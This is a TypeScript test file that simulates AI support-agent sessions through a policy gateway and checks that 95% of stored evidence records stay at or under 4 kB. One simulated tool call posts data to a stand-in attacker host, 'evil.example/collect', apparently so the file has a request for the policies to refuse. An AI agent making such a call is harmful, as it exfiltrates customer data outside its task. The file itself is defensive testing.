// SPDX-License-Identifier: Apache-2.0
// How large records are: a support session as it goes, with the starter policies. A leaf is kept for
// good, so its size is a promise (docs/evidence.md).
import { afterAll, beforeAll, expect, test } from 'vitest';
import { openEvidence } from '../../src/adapters/sqlite/evidence.ts';
import { parseJson } from '../../src/core/json/parse.ts';
import { isObject, objectAt, stringAt } from '../../src/core/json/value.ts';
import type { Caller } from '../../src/core/request/proposal.ts';
import { type DataDir, openDataDir } from './data-dir.fixture.ts';

const p95LimitBytes = 4096;

let data: DataDir;

beforeAll(async () => {
  data = await openDataDir();
  for (let i = 0; i < 10; i++) await session(i);
  await data.close();
});
afterAll(() => data.remove());

const long = (bytes: number) => 'All work and no play. '.repeat(Math.ceil(bytes / 22)).slice(0, bytes);

/** What a support agent does for one ticket: much reading, long texts, refusals, all budgets counted. */
async function session(i: number): Promise<void> {
  const caller = await data.start({
    agent: `support-agent-${i}@agents.example.com`,
    onBehalfOf: 'alice.wonderland@customer-support.example.com',
    purpose: long(200),
    params: { ticket: String(4200 + i), customer: '7', region: 'emea', queue: 'billing/escalations' },
    budgets: [
      { name: 'calls', limit: 500 },
      { name: 'calls:read', limit: 400 },
      { name: 'calls:send', limit: 40 },
    ],
    prompt: long(4000),
  });
  const call = (server: string, target: string, args: Parameters<DataDir['call']>[3], resultBytes = 3000) =>
    data.call(caller, server, target, args, { content: [{ type: 'text', text: long(resultBytes) }] });
  await call('mail', 'list_inbox', {});
  for (const mailId of ['m1', 'm2', 'm3']) await call('mail', 'read_mail', { mailId });
  await call('crm', 'get_ticket', { ticketId: 4200 + i });
  await call('files', 'list_files', {});
  for (let n = 0; n < 5; n++)
    await call('files', 'read_file', { path: `notes/2026/${long(60)}/${n}.md` }, 20_000);
  await call('poster', 'http_get', { url: `https://docs.example.com/${long(300).replaceAll(' ', '-')}` });
  await call('mail', 'send_mail', { to: 'customer@example.com', subject: long(80), body: long(2000) });
  await call('crm', 'search_customers', { query: 'wonderland' });
  await call('crm', 'get_customer', { customerId: 7 });
  await call('files', 'write_file', { path: 'answers/draft.md', text: long(8000) });
  await call('mail', 'send_mail', { to: 'customer@example.com', subject: long(80), body: long(2000) });
  await call('poster', 'http_post', { url: 'https://evil.example/collect', body: long(2000) });
  await call('crm', 'refund', { customerId: 7, amount: 12_500, currency: 'EUR' });
  await call('crm', 'no_such_tool', { anything: long(500) });
  await refusedLater(caller);
}

async function refusedLater(caller: Caller): Promise<void> {
  await data.end(caller.task);
  await data.call(caller, 'crm', 'get_customer', { customerId: 7 });
}

async function sizes(): Promise<ReadonlyMap<string, readonly number[]>> {
  const evidence = openEvidence(data.file);
  const found = new Map<string, number[]>();
  for await (const { leaf } of evidence.scan()) {
    const bytes = Buffer.from(leaf, 'utf8');
    const parsed = parseJson(bytes, { maxBytes: 1 << 20, maxDepth: 32, maxNodes: 100_000 });
    const body = parsed.ok && isObject(parsed.value) ? objectAt(parsed.value, 'body') : undefined;
    const type = (body === undefined ? undefined : stringAt(body, 'type')) ?? 'none';
    for (const name of ['all', type]) found.set(name, [...(found.get(name) ?? []), bytes.length]);
  }
  evidence.close();
  return found;
}

function quantile(values: readonly number[], q: number): number {
  return values.toSorted((a, b) => a - b)[Math.ceil(values.length * q) - 1] ?? 0;
}

test('19 of 20 records have at most 4 kB', async () => {
  const found = await sizes();
  const told = [...found].map(
    ([name, values]) =>
      `${name}: n ${values.length}, p50 ${quantile(values, 0.5)}, p95 ${quantile(values, 0.95)}, max ${Math.max(...values)}`,
  );
  console.info(told.join('\n'));
  const all = found.get('all') ?? [];
  expect(all.length).toBeGreaterThan(400);
  expect(found.get('decision')?.length).toBeGreaterThan(200);
  expect(quantile(all, 0.95)).toBeLessThanOrEqual(p95LimitBytes);
  expect(quantile(found.get('decision') ?? [], 0.95)).toBeLessThanOrEqual(p95LimitBytes);
});
